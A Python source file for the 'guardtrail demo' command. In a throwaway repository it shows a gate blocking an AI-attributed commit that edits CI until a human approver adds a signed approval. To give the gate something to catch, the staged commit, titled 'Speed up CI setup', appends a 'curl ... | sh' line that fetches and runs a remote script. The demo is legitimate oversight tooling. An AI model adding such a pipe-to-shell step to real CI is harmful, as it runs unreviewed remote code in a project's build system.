"""``guardtrail demo``: the whole flow on a throwaway repository.

An assistant commit edits CI; the gate blocks it; the approver, with a freshly generated SSH
key, approves; the gate passes. Nothing outside a temporary folder is touched.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
from collections.abc import Callable
from pathlib import Path

from guardtrail.commands.approve import ApproveOptions, run_approve
from guardtrail.commands.check import CheckOptions, run_check
from guardtrail.decide.gate import Decision
from guardtrail.errors import GuardtrailError
from guardtrail.report import Format, render

APPROVER = ("Alice Example", "alice@example.com")
ASSISTANT_TRAILER = "Co-Authored-By: Claude <noreply@anthropic.com>"
WORKFLOW = """name: ci
on: [pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: make test
"""


def _git(repo: Path, *args: str) -> None:
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("GIT_")},
        "GIT_CONFIG_GLOBAL": os.devnull,
        "GIT_CONFIG_NOSYSTEM": "1",
    }
    result = subprocess.run(["git", *args], cwd=repo, env=env, capture_output=True, text=True, check=False)
    if result.returncode != 0:
        raise GuardtrailError(f"demo: git {args[0]} failed: {result.stderr.strip()}")


def _write(repo: Path, relpath: str, text: str) -> None:
    target = repo / relpath
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text, encoding="utf-8")


def build_demo_repository(root: Path) -> Path:
    """A repository whose branch ``assistant/ci`` holds an assistant commit that edits CI."""
    if shutil.which("ssh-keygen") is None:
        raise GuardtrailError("demo needs ssh-keygen (OpenSSH) to make the approver's key")
    key = root / "alice_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "alice", "-f", str(key)], check=True)
    public = key.with_suffix(".pub").read_text(encoding="utf-8").strip()
    repo = root / "project"
    repo.mkdir()
    _git(repo, "init", "-q", "-b", "main")
    for name, value in (
        ("user.name", APPROVER[0]),
        ("user.email", APPROVER[1]),
        ("gpg.format", "ssh"),
        ("user.signingkey", str(key)),
        ("commit.gpgsign", "false"),
    ):
        _git(repo, "config", name, value)
    _write(
        repo,
        ".guardtrail.yml",
        f"mode: assistant\napprovers:\n  - name: {APPROVER[0]}\n"
        f"    email: {APPROVER[1]}\n    keys:\n      - {public}\n",
    )
    _write(repo, ".github/workflows/ci.yml", WORKFLOW)
    _write(repo, "README.md", "A project guarded by guardtrail.\n")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "Add policy and CI")
    _git(repo, "checkout", "-q", "-b", "assistant/ci")
    _write(
        repo,
        ".github/workflows/ci.yml",
        WORKFLOW + "      - run: curl -sSL https://example.com/setup.sh | sh\n",
    )
    _git(repo, "add", "-A")
    _git(
        repo,
        "-c",
        "user.name=Claude",
        "-c",
        "user.email=noreply@anthropic.com",
        "commit",
        "-q",
        "-m",
        f"Speed up CI setup\n\n{ASSISTANT_TRAILER}",
    )
    return repo


def run_demo(say: Callable[[str], None]) -> int:
    """Run the demo, narrating through ``say``; 0 when the story ends as it should."""
    root = Path(tempfile.mkdtemp(prefix="guardtrail-demo-"))
    try:
        repo = build_demo_repository(root)
        options = CheckOptions(repo=repo, base="main")
        say("1. An assistant commit edits .github/workflows/ci.yml. The gate runs:\n")
        before = run_check(options)
        say(render(before, Format.TEXT))
        say(f"   $ guardtrail approve --base main   (as {APPROVER[0]}, signing with a new SSH key)\n")
        sha = run_approve(ApproveOptions(repo=repo, base="main"))
        say(f"2. Signed approval commit {sha[:10]} created. The gate runs again:\n")
        after = run_check(options)
        say(render(after, Format.TEXT))
        return _outcome(before, after, say)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _outcome(before: Decision, after: Decision, say: Callable[[str], None]) -> int:
    if before.verdict == "block" and after.verdict == "pass":
        say("Demo complete: blocked without approval, passed with a signed one.\n")
        return 0
    say(f"Demo did not go as expected: before={before.verdict}, after={after.verdict}\n")
    return 1
